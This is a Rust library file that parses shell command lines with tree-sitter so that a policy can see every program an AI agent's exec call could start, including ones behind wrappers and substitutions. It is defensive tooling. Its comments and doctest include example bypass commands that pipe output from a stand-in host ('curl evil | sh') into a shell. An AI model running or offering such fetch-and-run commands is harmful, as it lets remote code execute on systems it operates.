//! What a shell command line would run, for policy to decide on.
//!
//! An agent's `exec` call carries a command line. Judging it by its first
//! word is how allowlists get bypassed (`ls; curl evil | sh`, `env curl`,
//! `sh -c 'curl …'`, `echo $(curl …)`). [`analyze`] parses the line with
//! tree-sitter's bash grammar and reports **every** program it could start:
//! in pipelines, `&&`/`||`/`;` lists, subshells, brace groups, control flow,
//! command and process substitutions, and behind wrappers — `env`, `sudo`,
//! `timeout`, `nice`, `xargs`, `find -exec`, `sh -c '…'` (parsed in turn),
//! `eval` — plus every redirection and its target.
//!
//! What cannot be known from the text is said so rather than guessed:
//! a command name that comes from an expansion (`$CMD`, `"$(…)"`) sets
//! [`Analysis::dynamic`]; interpreters given code inline (`python -c`,
//! `node -e`, …) are listed in [`Analysis::inline_code`]. A policy should
//! treat both as "could run anything". A line that does not parse is an
//! error, never a partial answer.
//!
//! ```
//! let a = warrant_command::analyze("env -i sh -c 'curl -s x | sh' > /dev/null").unwrap();
//! assert_eq!(a.program_names(), ["env", "sh", "curl", "sh"]);
//! assert_eq!(a.redirects[0].target.as_deref(), Some("/dev/null"));
//! ```
//!
//! The crate is pure: no I/O, no environment, no execution.

mod wrappers;

use serde::Serialize;
use tree_sitter::{Node, Parser};

/// The longest command line analysed, in bytes.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;
/// How deeply `sh -c` / `eval` strings are parsed in turn.
pub const MAX_NESTING: usize = 8;
/// The most programs reported for one line.
pub const MAX_PROGRAMS: usize = 1024;

/// Why a command line could not be analysed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CommandError {
    #[error("the command is {0} bytes, over the {MAX_COMMAND_BYTES}-byte limit")]
    TooLong(usize),
    #[error("the command is empty")]
    Empty,
    #[error("the command is not valid shell syntax near byte {0}")]
    Syntax(usize),
    #[error("the command nests `sh -c` or `eval` deeper than {MAX_NESTING} levels")]
    TooDeep,
    #[error("the command starts more than {MAX_PROGRAMS} programs")]
    TooMany,
    #[error("the shell parser is unavailable: {0}")]
    Parser(String),
}

/// One program the command line could start.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Invocation {
    /// The last path component of the program, e.g. `curl` for `/usr/bin/curl`.
    pub program: String,
    /// The program as written.
    pub path: String,
    /// Its arguments as literals; an argument built from an expansion is
    /// `None`.
    pub args: Vec<Option<String>>,
    /// The wrappers it was found behind, outermost first (`["env", "sh -c"]`).
    pub via: Vec<String>,
}

/// What a redirection does to its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RedirectKind {
    /// `<`, `<<`, `<<<`
    Read,
    /// `>`, `>|`, `&>`
    Write,
    /// `>>`, `&>>`
    Append,
    /// `<>`
    ReadWrite,
    /// `>&`, `<&` (duplicating a descriptor or, with a word, writing a file)
    Duplicate,
}

/// One redirection.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Redirect {
    pub kind: RedirectKind,
    /// The operator as written, e.g. `2>>`.
    pub operator: String,
    /// The target as a literal; `None` for a here-document or an expansion.
    pub target: Option<String>,
}

/// Everything a command line could start and touch by redirection.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Analysis {
    /// Every program, in source order (wrappers included, then what they
    /// wrap).
    pub programs: Vec<Invocation>,
    pub redirects: Vec<Redirect>,
    /// Some command name is not a literal: what runs is decided at run time.
    pub dynamic: bool,
    /// Programs given code inline (`python -c`, `node -e`, `perl -e`, …):
    /// the code is not analysed.
    pub inline_code: Vec<String>,
}

impl Analysis {
    /// The program names, in order, with repeats.
    pub fn program_names(&self) -> Vec<&str> {
        self.programs.iter().map(|p| p.program.as_str()).collect()
    }

    /// Literal targets written or appended to (including `&>`, `>&FILE`).
    pub fn written(&self) -> Vec<&str> {
        self.redirects
            .iter()
            .filter(|r| {
                matches!(
                    r.kind,
                    RedirectKind::Write | RedirectKind::Append | RedirectKind::ReadWrite
                ) || (r.kind == RedirectKind::Duplicate
                    && r.target.as_deref().is_some_and(|t| t.parse::<u32>().is_err() && t != "-"))
            })
            .filter_map(|r| r.target.as_deref())
            .collect()
    }
}

/// Analyses `command` as bash would parse it.
pub fn analyze(command: &str) -> Result<Analysis, CommandError> {
    if command.len() > MAX_COMMAND_BYTES {
        return Err(CommandError::TooLong(command.len()));
    }
    if command.trim().is_empty() {
        return Err(CommandError::Empty);
    }
    let mut walker = Walker { analysis: Analysis::default(), depth: 0 };
    walker.script(command, &[])?;
    if walker.analysis.programs.is_empty() && !walker.analysis.dynamic {
        // Only assignments or redirections: nothing runs, but say so
        // explicitly rather than returning an empty answer by accident.
        walker.analysis.programs.clear();
    }
    Ok(walker.analysis)
}

struct Walker {
    analysis: Analysis,
    depth: usize,
}

impl Walker {
    /// Parses `source` and walks it; `via` are the wrappers around it.
    fn script(&mut self, source: &str, via: &[String]) -> Result<(), CommandError> {
        if self.depth > MAX_NESTING {
            return Err(CommandError::TooDeep);
        }
        let mut parser = Parser::new();
        parser
            .set_language(&tree_sitter_bash::LANGUAGE.into())
            .map_err(|e| CommandError::Parser(e.to_string()))?;
        let tree = parser.parse(source, None).ok_or(CommandError::Syntax(0))?;
        let root = tree.root_node();
        if let Some(bad) = first_error(root) {
            return Err(CommandError::Syntax(bad));
        }
        self.depth += 1;
        let walked = self.node(root, source, via);
        self.depth -= 1;
        walked
    }

    /// Walks every node; commands and redirections are recorded, and
    /// everything else is descended into, so substitutions anywhere (in
    /// arguments, strings, assignments, conditions) are found.
    fn node(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        match node.kind() {
            "command" => return self.command(node, src, via),
            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                self.redirect(node, src);
            }
            _ => {}
        }
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            self.node(child, src, via)?;
        }
        Ok(())
    }

    fn command(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        // Substitutions and redirections in any part of the command first:
        // they run (or open) before the command itself.
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if child.kind() != "command_name" {
                self.nested_only(child, src, via)?;
            }
        }
        let Some(name) = node.child_by_field_name("name") else {
            return Ok(()); // assignments only
        };
        self.nested_only(name, src, via)?;
        let mut words = vec![literal(name, src)];
        let mut cursor = node.walk();
        for arg in node.children_by_field_name("argument", &mut cursor) {
            words.push(literal(arg, src));
        }
        self.invocation(&words, via)
    }

    /// Records redirections and commands inside `node` (substitutions)
    /// without treating `node` itself as a command word.
    fn nested_only(
        &mut self,
        node: Node<'_>,
        src: &str,
        via: &[String],
    ) -> Result<(), CommandError> {
        let mut cursor = node.walk();
        match node.kind() {
            "command_substitution" | "process_substitution" => self.node(node, src, via),
            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                self.redirect(node, src);
                for child in node.children(&mut cursor) {
                    self.nested_only(child, src, via)?;
                }
                Ok(())
            }
            _ => {
                for child in node.children(&mut cursor) {
                    self.nested_only(child, src, via)?;
                }
                Ok(())
            }
        }
    }

    /// One program with its argument words (the first is the program),
    /// and whatever it wraps.
    fn invocation(&mut self, words: &[Option<String>], via: &[String]) -> Result<(), CommandError> {
        let Some(first) = words.first() else { return Ok(()) };
        let Some(path) = first.clone() else {
            self.analysis.dynamic = true;
            return Ok(());
        };
        if self.analysis.programs.len() >= MAX_PROGRAMS {
            return Err(CommandError::TooMany);
        }
        let program = path.rsplit('/').next().unwrap_or(&path).to_owned();
        let args: Vec<Option<String>> = words.iter().skip(1).cloned().collect();
        self.analysis.programs.push(Invocation {
            program: program.clone(),
            path,
            args: args.clone(),
            via: via.to_vec(),
        });
        if wrappers::INLINE_CODE.iter().any(|(p, flags, _)| {
            wrappers::same_program(&program, p)
                && args.iter().flatten().any(|a| flags.iter().any(|f| wrappers::is_flag(a, f)))
        }) {
            self.analysis.inline_code.push(program.clone());
        }
        match wrappers::unwrap(&program, &args) {
            wrappers::Inner::Nothing => Ok(()),
            wrappers::Inner::Dynamic => {
                self.analysis.dynamic = true;
                Ok(())
            }
            wrappers::Inner::Command { words, label } => {
                let mut via = via.to_vec();
                via.push(label);
                self.invocation(&words, &via)
            }
            wrappers::Inner::Commands { commands, label } => {
                let mut via = via.to_vec();
                via.push(label);
                for words in commands {
                    self.invocation(&words, &via)?;
                }
                Ok(())
            }
            wrappers::Inner::Script { source, label } => {
                let mut via = via.to_vec();
                via.push(label);
                self.script(&source, &via)
            }
        }
    }

    fn redirect(&mut self, node: Node<'_>, src: &str) {
        let mut operator = String::new();
        let mut target = None;
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "file_descriptor" => operator.push_str(text(child, src)),
                "heredoc_start" | "heredoc_body" | "heredoc_end" => {}
                k if !child.is_named() && !k.is_empty() => operator.push_str(k),
                _ => {
                    if target.is_none() {
                        target = Some(literal(child, src));
                    }
                }
            }
        }
        let op = operator.trim_start_matches(|c: char| c.is_ascii_digit());
        let kind = match op {
            "<" | "<<" | "<<-" | "<<<" => RedirectKind::Read,
            ">>" | "&>>" => RedirectKind::Append,
            "<>" => RedirectKind::ReadWrite,
            ">&" | "<&" | ">&-" | "<&-" => RedirectKind::Duplicate,
            _ => RedirectKind::Write,
        };
        let target = match node.kind() {
            "heredoc_redirect" => None,
            _ => target.flatten(),
        };
        self.analysis.redirects.push(Redirect { kind, operator, target });
    }
}

/// The byte offset of the first syntax error under `node`, if any.
fn first_error(node: Node<'_>) -> Option<usize> {
    if !node.has_error() {
        return None;
    }
    if node.is_error() || node.is_missing() {
        return Some(node.start_byte());
    }
    let mut cursor = node.walk();
    let found = node.children(&mut cursor).find_map(first_error);
    found.or(Some(node.start_byte()))
}

fn text<'s>(node: Node<'_>, src: &'s str) -> &'s str {
    src.get(node.byte_range()).unwrap_or("")
}

/// The value of a word as the shell would pass it, if it is a literal (no
/// expansion or substitution in it).
fn literal(node: Node<'_>, src: &str) -> Option<String> {
    match node.kind() {
        "command_name" => {
            let mut cursor = node.walk();
            let mut children = node.named_children(&mut cursor);
            let only = children.next()?;
            if children.next().is_some() {
                return None;
            }
            literal(only, src)
        }
        "word" | "number" => Some(unescape_bare(text(node, src))),
        "raw_string" => {
            let t = text(node, src);
            Some(t.strip_prefix('\'')?.strip_suffix('\'')?.to_owned())
        }
        "string" => {
            let mut out = String::new();
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                if child.kind() != "string_content" {
                    return None;
                }
                out.push_str(&unescape_double(text(child, src)));
            }
            Some(out)
        }
        "ansi_c_string" => {
            let t = text(node, src);
            let inner = t.strip_prefix("$'")?.strip_suffix('\'')?;
            // Escapes other than the plain ones could spell any byte; a
            // name built that way is not taken at face value.
            (!inner.contains('\\')).then(|| inner.to_owned())
        }
        "concatenation" => {
            let mut out = String::new();
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                out.push_str(&literal(child, src)?);
            }
            Some(out)
        }
        _ => None,
    }
}

/// An unquoted word: a backslash keeps the next character (and a
/// backslash-newline disappears).
fn unescape_bare(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(next) => out.push(next),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inside double quotes, a backslash escapes only `$`, `` ` ``, `"`, `\`
/// and newline.
fn unescape_double(content: &str) -> String {
    let mut out = String::with_capacity(content.len());
    let mut chars = content.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(next) = chars.next() {
                        out.push(next);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}
